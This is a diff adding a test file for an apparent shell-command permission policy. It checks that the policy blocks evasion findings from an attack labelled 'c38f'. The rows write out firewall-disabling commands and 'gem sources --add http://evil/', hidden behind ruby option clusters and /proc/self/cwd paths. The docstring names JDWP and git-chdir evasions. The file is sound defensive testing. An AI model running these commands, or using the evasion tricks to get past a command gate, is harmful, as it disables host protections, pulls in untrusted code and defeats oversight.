@@ -1,0 +1,34 @@
+"""Attack c38f, findings 1, 2, 8, 11, 12 and 18: ruby's option clusters read as ruby reads them
+(`-WC DIR`, `-KuC DIR`, `-0C/DIR`, `-Wx/DIR`) and a script through /proc/self/cwd in ruby's
+moved folder; `gem sources --append/--prepend/-p`; JDWP servers through `JAVA_OPTS_APPEND` and
+`MAVEN_ARGS`; bpython's and ptpython's entry modules as `-m`; programs' own settings variables
+and options (KUBECONFIG, `--kubeconfig`, `svn --config-dir`, ...); git's chdirs (`-C`,
+`--work-tree`, GIT_DIR) followed for an alias's code. Judged typed and as an exec command;
+honest lines beside them still run."""
+
+from tests.policy_rows import assert_held_or_runs
+from tests.rows import each
+
+UFW = "/usr/sbin/ufw disable"
+ADD = "gem sources --add http://evil/"
+SVC = "service ufw stop"
+# (line, held): held means denied or confirmed typed and as an exec command; not held: allowed
+ROWS = [
+    # finding 1: ruby's letters with a short optional value read on in the same word
+    *((f"{ruby} {opts} {rest}", True) for ruby in ("ruby", "jruby", "truffleruby")
+      for opts in ("-WC /usr/bin", "-W2C /usr/bin", "-W0C/usr/bin", "-0C /usr/bin", "-00X /usr/bin",
+                   "-KuC /usr/bin", "-Wx/usr/bin", "-SC /usr/bin", "-wKeC /usr/bin", "-0777C /usr/bin")
+      for rest in (ADD,) if not (ruby == "jruby" and "X" in opts)),
+    *((f"ruby {opts} {SVC}", True) for opts in ("-WC /usr/sbin", "-KuC /usr/sbin", "-0C/usr/sbin")),
+    (f"ruby -C /usr/sbin /proc/self/cwd/{SVC}", True), (f"ruby -WC /usr/sbin /proc/self/cwd/{SVC}", True),
+    (f"jruby -0C /usr/sbin {SVC}", True), (f"jruby -J-Duser.dir=/usr/sbin {SVC}", True),
+    (f"ruby -C /usr/bin /proc/self/cwd/{ADD}", True),
+    # honest: the same options before one's own script
+    ("ruby -W0 x.rb", False), ("ruby -Ku x.rb", False), ("ruby -W:no-deprecated x.rb", False),
+    ("ruby -WC /tmp x.rb", False), ("ruby -00 -ne 'print' x.txt", False), ("jruby -J-Xmx1g x.rb", False),
+]
+
+
+@each(("line", "held"), ROWS)
+def test_c38f_a_lines(default_policy, line: str, held: bool) -> None:
+    assert_held_or_runs(default_policy, line, held)
